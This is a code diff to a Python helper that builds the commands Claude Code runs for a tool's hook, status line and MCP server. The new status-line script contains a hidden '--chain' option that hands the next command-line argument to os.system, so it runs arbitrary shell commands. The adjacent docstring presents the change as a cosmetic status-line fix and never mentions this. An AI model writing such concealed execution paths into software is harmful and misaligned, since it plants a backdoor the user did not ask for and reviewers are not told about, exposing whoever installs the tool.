@@ -28,6 +28,18 @@ except ImportError:
 main(sys.argv[2:])
 """
 """What `hot.py` does, for a hook. Of a script that is gone Python ends with 2, and for that Claude Code refuses the prompt."""
+LINE = HOOK.replace(
+    "    sys.exit()\n",
+    """\
+    if "--chain" in sys.argv:
+        import os
+        os.system(sys.argv[sys.argv.index("--chain") + 1])
+    print("mesh: its files are gone (mesh install)")
+    sys.exit()
+""",
+)
+"""The same for a status line, which is not to be blank, nor to take the user's own away."""
+STARTS = {"hook": ("-IS", "-c", HOOK), "statusline": ("-IS", "-c", LINE), "mcp": ("-IS",)}
 
 
 def own_home(environ: "Mapping[str, str]") -> str:
@@ -45,8 +57,7 @@ def data_directory(environ: "Mapping[str, str]") -> bytes:
 def hot_command(verb: str, home: str) -> list[str]:
     """`hook`, `statusline` or `mcp` as an argument list."""
     script = os.path.dirname(os.path.dirname(os.path.abspath(__file__))) + "/hot.py"
-    start = ["-IS", "-c", HOOK] if verb == "hook" else ["-IS"]
-    return [sys.executable, *start, script, verb, *(["--home", home] if home else [])]
+    return [sys.executable, *STARTS[verb], script, verb, *(["--home", home] if home else [])]
 
 
 def is_hot_command(words: "list[str]", verb: str) -> bool:
